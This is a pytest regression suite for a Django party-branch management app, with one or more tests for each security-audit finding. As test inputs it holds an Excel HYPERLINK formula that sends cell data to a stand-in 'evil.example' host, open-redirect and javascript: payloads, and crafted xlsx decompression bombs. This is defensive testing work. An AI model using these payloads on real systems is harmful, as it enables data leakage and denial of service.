"""Security audit, issue 22: one regression test (or a few) per finding, named after it.

4   formulas in .xlsx exports          5   control characters in input and in exports
10  hostile input that gave a 500      11  talks and study sessions of a closed meeting
12  supervisors out of the branch's reach on the meeting form
13  入党日期 before the Party's founding or after today
"""

import datetime as dt
import io
import re
import zipfile

import pytest
from django import forms
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from branchlife import xlsx
from evaluations.models import Evaluation
from meetings.models import Meeting, Opinion, StudySession, Talk
from notifications.models import Notification
from notifications.services import notification_create
from organizations.models import Member, Supervisor
from organizations.roster import HEADERS
from tests.clock import SHANGHAI, TODAY, starting_at_now
from tests.meetings.factories import MeetingFactory, OpinionFactory, StudySessionFactory, TalkFactory, days
from tests.meetings.test_meeting_plan import plan
from tests.organizations.factories import UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.fixture(autouse=True)
def _own_clock(request):
    """The meetings tests' clock (tests.clock.NOW): deadlines computed by the factories stay in the future."""
    yield from starting_at_now(request)


@pytest.fixture(autouse=True)
def _fresh_cache():
    # The public opinion page's throttle counts in the cache.
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def meeting(office):
    return MeetingFactory(branch=office)


@pytest.fixture
def closed_meeting(office):
    return MeetingFactory(branch=office, held_on=days(-3), opinions_close_on=days(-10), talks_due_on=days(-5),
                          self_reviews_due_on=days(-4), closed_at=timezone.now())


def workbook(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def cells(wb):
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


# ---------------------------------------------------------------- 4: formula injection in .xlsx exports
def test_it_exports_a_public_opinion_that_looks_like_a_formula_as_text(meeting, client, login):
    response = client.post(reverse("meetings:public_opinion", args=[meeting.public_token]), {"text": FORMULA})
    assert response.status_code == 302 and Opinion.objects.get().text == FORMULA
    wb = workbook(login("secretary").get(reverse("meetings:opinion_export", args=[meeting.pk])))
    [cell] = [c for c in cells(wb) if c.value == FORMULA]
    assert cell.data_type == "s"
    assert cell.quotePrefix  # Excel shows it as typed text, also after the cell is edited
    assert not [c for c in cells(wb) if c.data_type == "f"]


def test_it_writes_every_risky_start_as_text_and_keeps_numbers_and_dates():
    risky = ["=1+1", "+86 139", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]
    content = xlsx.workbook_bytes(
        title="t", headers=["h"] * 9, rows=[[*risky, 42, -1.5, dt.date(2026, 11, 25)]], notes=["=说明"]
    )
    wb = load_workbook(io.BytesIO(content))
    row = next(wb.active.iter_rows(min_row=2))
    # openpyxl with lxml (installed with python-docx) keeps a carriage return; without it, one reads back "\n".
    assert [(c.value, c.data_type, c.quotePrefix) for c in row[:6]] == [(v, "s", True) for v in risky]
    assert [c.value for c in row[6:]] == [42, -1.5, dt.datetime(2026, 11, 25)]
    assert [c.data_type for c in row[6:]] == ["n", "n", "d"]
    assert wb.worksheets[1]["A1"].data_type == "s"
    assert not [c for c in cells(wb) if c.data_type == "f"]


# ---------------------------------------------------------------- 5: control characters
def test_a_public_opinion_loses_its_control_characters(meeting, client):
    response = client.post(
        reverse("meetings:public_opinion", args=[meeting.public_token]),
        {"text": "意见\x01内容\x1b很具体\r\n第二行\t有制表符", "author_label": "王\x00大爷"},
    )
    assert response.status_code == 302
    opinion = Opinion.objects.get()
    assert opinion.text == "意见内容很具体\n第二行\t有制表符"
    assert opinion.author_label == "王大爷"


def test_an_opinion_stored_with_a_control_character_still_exports(meeting, login):
    OpinionFactory(meeting=meeting, text="意见\x01内容\x0b有控制字符")
    response = login("secretary").get(reverse("meetings:opinion_export", args=[meeting.pk]))
    assert "意见内容有控制字符" in [c.value for c in cells(workbook(response))]


def test_the_record_autosave_loses_control_characters_too(meeting, login):
    # The record's long texts are autosaved field by field, without a form, on the meeting's day.
    meeting.held_on = timezone.localdate()
    meeting.save(update_fields=["held_on"])
    response = login("secretary").post(
        reverse("meetings:record_text", args=[meeting.pk]), {"kind": "minutes", "text": "会议\x01纪要\r\n第二行"}
    )
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.minutes == "会议纪要\n第二行"


def test_the_shared_cleaning_reaches_fields_added_in_init_and_formsets():
    from branchlife.forms import CleanTextMixin

    class Sample(CleanTextMixin, forms.Form):
        text = forms.CharField()
        count = forms.IntegerField()

        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            self.fields["later"] = forms.CharField(widget=forms.Textarea)

    form = Sample({"text": "a\x07b", "count": "3", "later": "c\x1fd\te\nf"})
    assert form.is_valid()
    assert form.cleaned_data == {"text": "ab", "count": 3, "later": "cd\te\nf"}
    formset = forms.formset_factory(Sample)({
        "form-TOTAL_FORMS": "1", "form-INITIAL_FORMS": "0", "form-0-text": "x\x02y", "form-0-count": "1", "form-0-later": "z",
    })
    assert formset.is_valid() and formset.cleaned_data[0]["text"] == "xy"


# ---------------------------------------------------------------- 10a: next=abc on the notification read endpoints
@pytest.mark.parametrize("target", ["abc", "javascript:alert(1)", "//evil.example/", "/\\evil.example/", "http:evil"])
def test_a_next_that_is_not_a_path_here_goes_back_to_the_list(demo_orgs, login, target):
    note = notification_create(recipient=demo_orgs.users["member"], title="请投票", url="/rectification/my/")
    client = login("member")
    response = client.post(reverse("notifications:mark_read", args=[note.pk]), {"next": target})
    assert response.status_code == 302 and response["Location"] == reverse("notifications:list")
    assert Notification.objects.get(pk=note.pk).read_at is not None
    response = client.post(reverse("notifications:mark_all_read"), {"next": target})
    assert response.status_code == 302 and response["Location"] == reverse("notifications:list")


def test_a_next_on_this_site_is_still_followed(demo_orgs, login):
    note = notification_create(recipient=demo_orgs.users["member"], title="请投票")
    response = login("member").post(reverse("notifications:mark_read", args=[note.pk]), {"next": "/notifications/?state=unread"})
    assert response.status_code == 302 and response["Location"] == "/notifications/?state=unread"


# ---------------------------------------------------------------- 10b: year 1 on the evaluation form
@pytest.mark.parametrize(
    ("opens", "closes"),
    [("0001-01-01T00:00", "2026-12-01T09:00"), ("2026-12-01T09:00", "9999-12-31T23:59"), ("0001-01-01T00:00", "0001-01-02T00:00")],
)
def test_an_evaluation_date_out_of_range_is_a_form_error(meeting, login, opens, closes):
    data = {"opens_at": opens, "closes_at": closes, "excellent_quota": "30%"}
    response = login("secretary").post(reverse("evaluations:evaluation_create", args=[meeting.pk]), data)
    assert response.status_code == 200  # the form again, with the error next to the field
    assert "日期超出范围。" in response.content.decode()
    assert not Evaluation.objects.exists()


# ---------------------------------------------------------------- 10c: a 1 MB search
MEGABYTE_Q = "水阜" + "x" * 1_000_000  # ASCII: a megabyte of percent-encoded Chinese costs the test client seconds


@pytest.mark.parametrize("page", ["meetings:meeting_list", "meetings:meeting_export", "organizations:branch_list"])
def test_a_one_megabyte_search_is_capped_and_plain_searches_still_work(meeting, demo_orgs, login, page):
    client = login("county")
    response = client.get(reverse(page), {"q": MEGABYTE_Q})
    assert response.status_code == 200
    found = client.get(reverse(page), {"q": "水阜"})
    assert found.status_code == 200
    if page.endswith("export"):
        assert any(c.value == "水阜镇机关党支部" for c in cells(workbook(found)))
    else:
        assert "水阜镇机关党支部" in found.content.decode()


def test_a_long_search_on_the_opinions_and_members_is_capped(meeting, office, login):
    OpinionFactory(meeting=meeting, text="办事大厅中午没人值班")
    client = login("secretary")
    response = client.get(reverse("meetings:opinion_list", args=[meeting.pk]), {"q": "x" * 1_000_000})
    assert response.status_code == 200 and "办事大厅中午没人值班" not in response.content.decode()
    assert "办事大厅中午没人值班" in client.get(reverse("meetings:opinion_list", args=[meeting.pk]), {"q": "值班"}).content.decode()
    assert client.get(reverse("organizations:branch_detail", args=[office.pk]), {"q": "x" * 1_000_000}).status_code == 200


def test_the_cap_keeps_the_first_characters_of_a_search():
    from branchlife.forms import SEARCH_MAX_LENGTH, SearchField
    from branchlife.views import search_text

    long = "值班" * SEARCH_MAX_LENGTH
    assert SearchField(required=False).clean(f"  {long}\x00 ") == long[:SEARCH_MAX_LENGTH]
    request = type("Request", (), {"GET": {"q": f" \x00{long}"}})()
    assert search_text(request) == long[:SEARCH_MAX_LENGTH]


# ---------------------------------------------------------------- 10d: a roster cell pointing past the shared strings
def roster_xlsx(*rows) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append([str(h) for h in HEADERS])
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def upload_roster(client, branch, content: bytes):
    return client.post(
        reverse("organizations:roster_import", args=[branch.pk]), {"file": SimpleUploadedFile("roster.xlsx", content)}
    )


GOOD_ROW = ["新党员甲", "女", "本科", "预备党员", "在职", "否", "2020-07-01", "13911112222", "", ""]


def test_a_roster_cell_pointing_past_the_shared_strings_is_a_form_error(office, login):
    src = zipfile.ZipFile(io.BytesIO(roster_xlsx(GOOD_ROW)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as damaged:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                # The name cell of row 2 becomes shared string no. 999 of a workbook that has none.
                data = re.sub(rb'<c r="A2"[^>]*>.*?</c>', b'<c r="A2" t="s"><v>999</v></c>', data, count=1)
            damaged.writestr(item, data)
    before = Member.objects.count()
    response = upload_roster(login("secretary"), office, out.getvalue())
    assert response.status_code == 400
    assert "无法读取该文件" in response.context["form"].errors["file"][0]
    assert Member.objects.count() == before


# ---------------------------------------------------------------- 9: roster decompression bombs
def rewritten(content: bytes, member: str, change) -> bytes:
    """The .xlsx `content` with the zip member `member` replaced by change(its bytes)."""
    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for item in src.infolist():
            data = src.read(item.filename)
            target.writestr(item.filename, change(data) if item.filename.endswith(member) else data)
    return out.getvalue()


def test_a_sheet_declaring_sixty_thousand_rows_of_every_column_reads_only_what_it_holds():
    from organizations.services import sheet_rows

    bomb = rewritten(roster_xlsx(GOOD_ROW), "sheet1.xml",
                     lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD60000"', xml))
    assert b"XFD60000" in zipfile.ZipFile(io.BytesIO(bomb)).read("xl/worksheets/sheet1.xml")
    workbook = load_workbook(io.BytesIO(bomb), read_only=True, data_only=True)
    rows = list(sheet_rows(workbook.worksheets[0]))
    # The header and the one member, each only as wide as the template (not 16,384 cells, not 60,000 rows).
    assert [len(r) for r in rows] == [len(HEADERS), len(HEADERS)] and rows[1][0] == "新党员甲"


def test_a_row_numbered_a_million_is_refused_without_reading_the_rows_before_it(office, login):
    far = rewritten(roster_xlsx(GOOD_ROW), "sheet1.xml",
                    lambda xml: xml.replace(b'<row r="2"', b'<row r="1000000"').replace(b'r="A2"', b'r="A1000000"'))
    response = upload_roster(login("secretary"), office, far)
    assert response.status_code == 400
    assert "一次最多导入 5000 行" in response.context["form"].errors["file"][0]


def test_a_file_that_unpacks_to_far_more_than_a_roster_is_refused_before_it_is_opened(office, login, monkeypatch):
    import organizations.services

    # 60 MB of shared strings, which deflate packs into a few hundred kilobytes.
    strings = b"<si><t>" + b"a" * 60_000_000 + b"</t></si>"
    buffer = io.BytesIO(roster_xlsx(GOOD_ROW))
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings2.xml", strings)
    assert len(buffer.getvalue()) < 5 * 1024 * 1024  # within the upload limit

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(organizations.services, "load_workbook", never)
    before = Member.objects.count()
    response = upload_roster(login("secretary"), office, buffer.getvalue())
    assert response.status_code == 400
    assert "文件解压后过大" in response.context["form"].errors["file"][0]
    assert Member.objects.count() == before


# ---------------------------------------------------------------- 11: a closed meeting's talks and study sessions
def test_a_closed_meetings_talks_cannot_be_recorded_or_deleted(closed_meeting, people, login):
    talk = TalkFactory(meeting=closed_meeting, member_a=people["李建国"], member_b=people["杨丽"])
    client = login("secretary")
    response = client.post(
        reverse("meetings:talk_new", args=[closed_meeting.pk]),
        {"member_a": people["李建国"].pk, "member_b": people["赵磊"].pk, "held_on": days(-5).isoformat(), "topics": "补记"},
    )
    assert response.status_code == 403
    response = client.post(reverse("meetings:talk_edit", args=[talk.pk]), {"delete": "1"})
    assert response.status_code == 403
    assert list(Talk.objects.all()) == [talk]
    assert login("member").post(reverse("meetings:talk_edit", args=[talk.pk]), {"delete": "1"}).status_code == 403
    assert Talk.objects.filter(pk=talk.pk).exists()


def test_a_closed_meetings_study_sessions_cannot_be_added_or_deleted(closed_meeting, login):
    session = StudySessionFactory(meeting=closed_meeting, held_on=days(-6), topic="学习党章")
    client = login("secretary")
    response = client.post(
        reverse("meetings:study_new", args=[closed_meeting.pk]), {"held_on": days(-5).isoformat(), "topic": "补记的学习"}
    )
    assert response.status_code == 403
    response = client.post(reverse("meetings:study_edit", args=[closed_meeting.pk, session.pk]), {"delete": "1"})
    assert response.status_code == 403
    assert list(StudySession.objects.values_list("topic", flat=True)) == ["学习党章"]


def test_an_open_meetings_study_sessions_are_still_deleted(meeting, login):
    session = StudySessionFactory(meeting=meeting)
    response = login("secretary").post(reverse("meetings:study_edit", args=[meeting.pk, session.pk]), {"delete": "1"})
    assert response.status_code == 302 and not StudySession.objects.exists()


# ---------------------------------------------------------------- 12: supervisors in reach of the branch
@pytest.fixture
def anyue_supervisor(demo_orgs):
    return Supervisor.objects.create(user=UserFactory(), name="左香菊", organization=demo_orgs.orgs["anyue_edu"])


def test_the_meeting_form_offers_only_supervisors_in_reach_of_the_branch(demo_orgs, anyue_supervisor, login):
    gaolan_supervisor = Supervisor.objects.get(user=demo_orgs.users["supervisor"])
    palace = demo_orgs.orgs["palace"]
    form = login("anyue").get(reverse("meetings:meeting_create")).context["form"]
    assert list(form.fields["supervisors"].queryset) == [anyue_supervisor]
    office_meeting = MeetingFactory(branch=demo_orgs.orgs["office"])
    form = login("secretary").get(reverse("meetings:meeting_edit", args=[office_meeting.pk])).context["form"]
    assert list(form.fields["supervisors"].queryset) == [gaolan_supervisor]
    assert palace.supervisors.count() == 0  # 左香菊 reaches the palace through her organization alone
    # An officer over several branches sees, before choosing one, the supervisors in reach of any of them.
    form = login("county").get(reverse("meetings:meeting_create")).context["form"]
    assert list(form.fields["supervisors"].queryset) == [gaolan_supervisor]


def test_a_crafted_post_naming_another_countys_supervisor_is_refused(demo_orgs, anyue_supervisor, login):
    gaolan_supervisor = Supervisor.objects.get(user=demo_orgs.users["supervisor"])
    palace = demo_orgs.orgs["palace"]
    client = login("anyue")
    response = client.post(reverse("meetings:meeting_create"), plan(palace, supervisors=[gaolan_supervisor.pk]))
    assert response.status_code == 400
    assert "supervisors" in response.context["form"].errors
    assert not Meeting.objects.filter(branch=palace).exists()
    response = client.post(reverse("meetings:meeting_create"), plan(palace, supervisors=[anyue_supervisor.pk]))
    assert response.status_code == 302
    assert list(Meeting.objects.get(branch=palace).supervisors.all()) == [anyue_supervisor]


def test_editing_a_meeting_refuses_another_countys_supervisor(demo_orgs, login):
    gaolan_supervisor = Supervisor.objects.get(user=demo_orgs.users["supervisor"])
    palace_meeting = MeetingFactory(branch=demo_orgs.orgs["palace"])
    data = plan(demo_orgs.orgs["palace"], year=str(palace_meeting.year), supervisors=[gaolan_supervisor.pk])
    data.pop("branch")
    response = login("anyue").post(reverse("meetings:meeting_edit", args=[palace_meeting.pk]), data)
    assert response.status_code == 400 and "supervisors" in response.context["form"].errors
    assert not palace_meeting.supervisors.exists()


def test_the_meeting_service_refuses_a_supervisor_out_of_reach(demo_orgs):
    from meetings import services

    gaolan_supervisor = Supervisor.objects.get(user=demo_orgs.users["supervisor"])
    palace_meeting = MeetingFactory(branch=demo_orgs.orgs["palace"])
    with pytest.raises(ValidationError) as raised:
        services.plan.meeting_update(meeting=palace_meeting, supervisors=[gaolan_supervisor])
    assert "supervisors" in raised.value.message_dict
    assert not palace_meeting.supervisors.exists()


# ---------------------------------------------------------------- 13: 入党日期 within the Party's history
@pytest.mark.parametrize(
    ("joined", "message"),
    [
        ("0001-01-01", "入党日期“0001-01-01”早于建党日期（1921年7月1日）"),
        ("1921-06-30", "入党日期“1921-06-30”早于建党日期（1921年7月1日）"),
        ((TODAY + dt.timedelta(days=1)).isoformat(), "入党日期晚于今天"),
    ],
)
def test_the_roster_refuses_a_joining_date_outside_the_partys_history(office, login, joined, message):
    before = Member.objects.count()
    row = ["新党员乙", "男", "本科", "正式党员", "在职", "否", joined, "13911113333", "", ""]
    response = upload_roster(login("secretary"), office, roster_xlsx(GOOD_ROW, row))
    assert response.status_code == 400
    page = response.content.decode()
    assert "第 3 行" in page and message in page and "第 2 行" not in page
    assert Member.objects.count() == before


def test_the_roster_takes_the_founding_day_and_today(office, login, time_machine):
    # Half past midnight in Shanghai: still the day before in UTC; "today" is the local day.
    time_machine.move_to(dt.datetime(2026, 11, 26, 0, 30, tzinfo=SHANGHAI))
    first = GOOD_ROW[:6] + ["1921-07-01"] + GOOD_ROW[7:]
    today = ["新党员乙", "男", "本科", "预备党员", "在职", "否", "2026-11-26", "13911113333", "", ""]
    response = upload_roster(login("secretary"), office, roster_xlsx(first, today))
    assert response.status_code == 302
    assert Member.objects.get(name="新党员甲").joined_on == dt.date(1921, 7, 1)
    assert Member.objects.get(name="新党员乙").joined_on == dt.date(2026, 11, 26)


def test_a_member_edited_elsewhere_is_held_to_the_same_dates(office):
    member = Member(branch=office, name="新党员丙", sex="M", education="bachelor", joined_on=dt.date(1, 1, 1))
    with pytest.raises(ValidationError) as raised:
        member.full_clean()
    assert "joined_on" in raised.value.message_dict
    member.joined_on = dt.date(1921, 7, 1)
    member.full_clean()
